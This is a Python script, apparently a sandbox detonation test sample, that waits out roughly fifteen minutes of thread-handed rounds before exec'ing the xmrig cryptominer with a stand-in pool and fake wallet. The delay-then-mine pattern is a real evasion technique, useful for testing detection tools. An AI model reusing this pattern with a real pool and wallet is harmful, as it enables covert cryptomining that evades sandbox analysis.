#!/usr/bin/python3
"""Hold-out handover countdown (detonate test sample; harmless): 3,000 rounds of
threading.Event().wait(0.3) on an event nobody sets, as tasks of a two-worker
ThreadPoolExecutor; each task submits the next round and holds its worker until the next round
has started, so consecutive rounds run in different threads. Main blocks on an Event.wait() with
no timeout until the last round, then execs the miner stand-in with a fake wallet.

HANDOVER_SCALE=N divides the round count (host checks); HANDOVER_MINER replaces the miner."""

import itertools
import os
import threading
from concurrent.futures import ThreadPoolExecutor

MINER = "/usr/local/bin/xmrig"
POOL = "stratum+tcp://pool.handover.test:3333"
WALLET = "4HandoverFakePyWa11etNotARealAddress000000000000000000000000000000000000000000000000000"
ROUNDS = 3000
ROUND = 0.3


def scaled(rounds: int) -> int:
    try:
        scale = max(1, int(os.environ.get("HANDOVER_SCALE", "1")))
    except ValueError:
        scale = 1
    return max(1, rounds // scale)


def main() -> None:
    rounds = scaled(ROUNDS)
    never = threading.Event()
    finished = threading.Event()
    started = [threading.Event() for _ in range(rounds)]
    ran_on: list[int] = []
    failed: list[BaseException] = []
    pool = ThreadPoolExecutor(max_workers=2)

    def step(i: int) -> None:
        try:
            started[i].set()
            ran_on.append(threading.get_ident())
            never.wait(ROUND)
            if i + 1 < rounds:
                pool.submit(step, i + 1)
                started[i + 1].wait()  # keep this worker busy: the other one takes the round
                return
        except BaseException as exc:  # never mine early: main reports it and exits
            failed.append(exc)
        finished.set()

    print(f"pypool: {rounds} rounds of {ROUND} s handed between two pool workers", flush=True)
    pool.submit(step, 0)
    finished.wait()
    pool.shutdown(wait=True)
    if failed:
        raise SystemExit(f"pypool: a round failed: {failed[0]!r}")
    handovers = sum(a != b for a, b in itertools.pairwise(ran_on))
    print(f"pypool: {len(ran_on)} rounds, {handovers} handovers, starting the miner", flush=True)
    miner = os.environ.get("HANDOVER_MINER") or MINER
    os.execv(miner, ["xmrig", "-o", POOL, "-u", WALLET, "--shares", "1"])


if __name__ == "__main__":
    main()
